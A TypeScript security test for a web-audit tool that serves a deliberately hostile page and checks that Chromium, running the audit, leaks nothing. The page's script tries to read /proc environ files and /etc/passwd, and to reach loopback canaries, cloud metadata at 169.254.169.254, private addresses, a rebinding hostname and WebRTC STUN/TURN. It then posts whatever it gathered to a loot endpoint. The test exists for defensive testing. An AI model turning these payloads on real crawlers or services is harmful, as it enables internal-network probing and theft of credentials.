// A page that attacks the browser auditing it, in a real audit: it tries to read the process environment
// in every way a page can ask Chromium for a file, and to reach our own network by fetch, WebSocket,
// WebRTC (STUN over UDP and TURN over TCP), a redirect, a name that resolves to loopback, literal
// addresses in other spellings, link-local cloud metadata and subresources on private addresses. A canary
// on 127.0.0.2 (a loopback address the audit's policy refuses; the page itself is allowed on 127.0.0.1
// only) counts every TCP connection and UDP datagram: it must count none. Whatever the page could read
// it posts to its own origin and writes into its document: neither may hold the worker's secrets, nor
// may the outcome. Meanwhile every Chromium process of the audit is read from /proc: none runs as root
// or with --no-sandbox, and each renderer is under seccomp.
import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { recordResilience } from '@pace/platform/resilience-report';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { runAudit } from '../src/index.ts';
import { PLAIN_PROFILE } from '../src/testing/fixture-sites.ts';

const CHROME_PATH = process.env.CHROME_PATH ?? '/usr/bin/chromium';
const CANARY_ADDRESS = '127.0.0.2';
const MARK = 'PACE_AUDIT_MARK';
const secret = `canary-${randomBytes(12).toString('hex')}`;
const mark = `hostile-${randomBytes(6).toString('hex')}`;

let canaryTcp: TcpServer;
let canaryUdp: Socket;
let tcpPort = 0;
let udpPort = 0;
const hits: string[] = [];

let site: Server;
let sitePort = 0;
const loot: string[] = [];
let releaseHold: () => void = () => {};
const looted = new Promise<void>((resolve) => {
  releaseHold = resolve;
});

/** The attacks, run as the page parses; the results go to /loot, which releases the held image. */
function hostilePage() {
  const canary = `${CANARY_ADDRESS}:${tcpPort}`;
  const targets = [
    `http://${canary}/fetch`,
    `http://localhost:${tcpPort}/localhost`,
    `http://canary.localhost:${tcpPort}/dot-localhost`,
    `http://rebind.test:${tcpPort}/name-to-loopback`,
    `http://0x7f000002:${tcpPort}/hex`,
    `http://2130706434:${tcpPort}/decimal`,
    `http://[::ffff:127.0.0.2]:${tcpPort}/mapped`,
    `http://169.254.169.254/latest/meta-data/`,
    `http://10.0.0.1/private`,
    `/go-internal`,
  ];
  const files = ['file:///proc/self/environ', 'file:///proc/1/environ', 'file:///etc/passwd'];
  const script = `
const found = [];
const note = (what, value) => { found.push(what + ': ' + String(value).slice(0, 400)); };
const attempts = [];
for (const url of ${JSON.stringify([...targets, ...files])}) {
  attempts.push(fetch(url, { mode: 'no-cors' }).then((r) => r.text()).then((t) => note(url, t), (e) => note(url, e)));
  attempts.push(new Promise((done) => {
    const x = new XMLHttpRequest();
    x.onloadend = () => { note('xhr ' + url, x.responseText); done(); };
    try { x.open('GET', url); x.send(); } catch (e) { note('xhr ' + url, e); done(); }
  }));
}
for (const url of ${JSON.stringify(files)}) {
  const frame = document.createElement('iframe');
  frame.src = url;
  document.body.append(frame);
  attempts.push(new Promise((done) => setTimeout(() => {
    try { note('frame ' + url, frame.contentDocument && frame.contentDocument.body.innerText); } catch (e) { note('frame ' + url, e); }
    done();
  }, 800)));
  try { const w = window.open(url); note('open ' + url, w && w.document.body.innerText); } catch (e) { note('open ' + url, e); }
}
for (const url of ['ws://${canary}/ws', 'ws://rebind.test:${tcpPort}/ws', 'ws://localhost:${tcpPort}/ws']) {
  attempts.push(new Promise((done) => {
    try {
      const socket = new WebSocket(url);
      socket.onopen = () => { note(url, 'open'); socket.send('hello'); };
      socket.onerror = socket.onclose = () => { note(url, 'closed'); done(); };
    } catch (e) { note(url, e); done(); }
    setTimeout(done, 3000);
  }));
}
attempts.push(new Promise((done) => {
  try {
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: 'stun:${CANARY_ADDRESS}:${udpPort}' },
      { urls: 'turn:${CANARY_ADDRESS}:${udpPort}?transport=udp', username: 'u', credential: 'p' },
      { urls: 'turn:${canary}?transport=tcp', username: 'u', credential: 'p' },
    ] });
    peer.createDataChannel('leak');
    peer.onicecandidate = (event) => { if (event.candidate) note('candidate', event.candidate.candidate); };
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    setTimeout(() => { note('ice', peer.iceGatheringState); done(); }, 4000);
  } catch (e) { note('rtc', e); done(); }
}));
Promise.all(attempts).then(() => {
  const text = found.join('\\n');
  document.getElementById('found').textContent = text;
  return fetch('/loot', { method: 'POST', body: text });
});`;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title>
<meta name="viewport" content="width=device-width,initial-scale=1"><meta name="description" content="Hostile">
<link rel="stylesheet" href="http://${canary}/style.css"></head><body><h1>Hostile</h1><pre id="found"></pre>
<img alt="" width="1" height="1" src="http://${canary}/pixel.gif">
<img alt="" width="1" height="1" src="http://rebind.test:${tcpPort}/pixel.gif">
<img alt="" width="1" height="1" src="/hold">
<script>${script}</script></body></html>`;
}

interface ChromiumProcess {
  pid: number;
  uid: number;
  seccomp: number;
  cmdline: string;
}

/** A process's parent, user, seccomp mode and command line; null when it ended meanwhile. */
function processInfo(pid: number): (ChromiumProcess & { parent: number }) | null {
  try {
    const status = readFileSync(`/proc/${pid}/status`, 'latin1');
    return {
      pid,
      parent: Number(/^PPid:\s+(\d+)/m.exec(status)?.[1]),
      uid: Number(/^Uid:\s+(\d+)/m.exec(status)?.[1]),
      seccomp: Number(/^Seccomp:\s+(\d+)/m.exec(status)?.[1]),
      cmdline: readFileSync(`/proc/${pid}/cmdline`, 'latin1').replaceAll('\0', ' '),
    };
  } catch {
    return null;
  }
}

/**
 * The audit's Chromium processes: those whose environment holds the mark the runner lets through, and
 * their descendants (a sandboxed renderer writes its title over its environment, so it is found by its
 * parent).
 */
function chromiumProcesses(): ChromiumProcess[] {
  const all = readdirSync('/proc')
    .filter((entry) => /^\d+$/.test(entry))
    .flatMap((entry) => processInfo(Number(entry)) ?? []);
  const marked = new Set(
    all
      .filter((found) => {
        try {
          const environ = readFileSync(`/proc/${found.pid}/environ`, 'latin1');
          return environ.split('\0').includes(`${MARK}=${mark}`);
        } catch {
          return false;
        }
      })
      .map((found) => found.pid),
  );
  for (let grew = true; grew; ) {
    grew = false;
    for (const found of all) {
      if (!marked.has(found.pid) && marked.has(found.parent)) {
        marked.add(found.pid);
        grew = true;
      }
    }
  }
  return all.filter((found) => marked.has(found.pid) && found.cmdline.includes('chrom'));
}

beforeAll(async () => {
  canaryTcp = createTcpServer((socket) => {
    hits.push(`tcp from ${socket.remoteAddress}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => canaryTcp.listen(0, CANARY_ADDRESS, resolve));
  tcpPort = (canaryTcp.address() as { port: number }).port;
  canaryUdp = createSocket('udp4');
  canaryUdp.on('message', (_message, from) => hits.push(`udp from ${from.address}:${from.port}`));
  await new Promise<void>((resolve) => canaryUdp.bind(0, CANARY_ADDRESS, resolve));
  udpPort = canaryUdp.address().port;

  site = createServer((req, res) => {
    if (req.url === '/loot') {
      let body = '';
      req.on('data', (chunk: Buffer) => {
        body += chunk.toString();
      });
      req.on('end', () => {
        loot.push(body);
        releaseHold();
        res.end('thanks');
      });
      return;
    }
    if (req.url === '/hold') {
      // Keeps the page loading until its attacks are done (or 20 s), so Lighthouse waits for them.
      void Promise.race([looted, new Promise((resolve) => setTimeout(resolve, 20_000))]).then(() => {
        res.writeHead(200, { 'content-type': 'image/gif' });
        res.end(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'));
      });
      return;
    }
    if (req.url === '/go-internal') {
      res.writeHead(302, { location: `http://${CANARY_ADDRESS}:${tcpPort}/redirected` });
      res.end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(hostilePage());
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  sitePort = (site.address() as { port: number }).port;
});

afterAll(async () => {
  await new Promise((resolve) => site.close(resolve));
  await new Promise((resolve) => canaryTcp.close(resolve));
  canaryUdp.close();
});

it('a hostile page reaches no internal address, reads no secret, and Chromium runs sandboxed', async () => {
  const saved = { secret: process.env.STRIPE_SECRET_KEY, mark: process.env[MARK] };
  process.env.STRIPE_SECRET_KEY = secret;
  process.env[MARK] = mark; // the audit process is forked now, with this environment
  const seen = new Map<number, ChromiumProcess>();
  let watching = true;
  const watcher = (async () => {
    while (watching) {
      for (const found of chromiumProcesses()) seen.set(found.pid, found);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  })();
  const outcome = await runAudit({
    url: `http://127.0.0.1:${sitePort}/`,
    profile: PLAIN_PROFILE,
    formAuth: null,
    chromePath: CHROME_PATH,
    allowedNetworks: ['127.0.0.1/32'],
    hostRules: `rebind.test=${CANARY_ADDRESS}`,
  }).finally(() => {
    watching = false;
    process.env.STRIPE_SECRET_KEY = saved.secret;
    if (saved.mark === undefined) delete process.env[MARK];
    else process.env[MARK] = saved.mark;
  });
  await watcher;
  // Late datagrams and connections of the ICE agent get a moment to arrive.
  await new Promise((resolve) => setTimeout(resolve, 1_000));

  expect(outcome.ok ? 'ok' : `${outcome.code} ${outcome.message}`).toBe('ok');
  expect(loot, 'the page ran its attacks and reported back').toHaveLength(1);
  recordResilience({
    scenario: 'hostile page in a real audit (sandbox, guard, WebRTC)',
    measured: `${hits.length} canary hits from ${loot[0]!.split('\n').length} attempts`,
    target: '0 hits',
    met: hits.length === 0,
  });
  expect(hits).toEqual([]);
  expect(loot[0], 'the peer connection gathered candidates').toMatch(/^ice: /m);
  expect(loot[0]).not.toContain(secret);
  expect(JSON.stringify(outcome)).not.toContain(secret);
  const refused = outcome.guardEvents.filter((event) => event.kind === 'refused').map((event) => event.host);
  expect(refused).toEqual(expect.arrayContaining(['169.254.169.254', '10.0.0.1', 'rebind.test']));

  const processes = [...seen.values()];
  const renderers = processes.filter((found) => found.cmdline.includes('--type=renderer'));
  expect(renderers.length).toBeGreaterThan(0);
  expect(processes.filter((found) => found.cmdline.includes('--no-sandbox'))).toEqual([]);
  expect(processes.filter((found) => found.uid === 0)).toEqual([]);
  expect(renderers.filter((found) => found.seccomp !== 2)).toEqual([]);
}, 180_000);
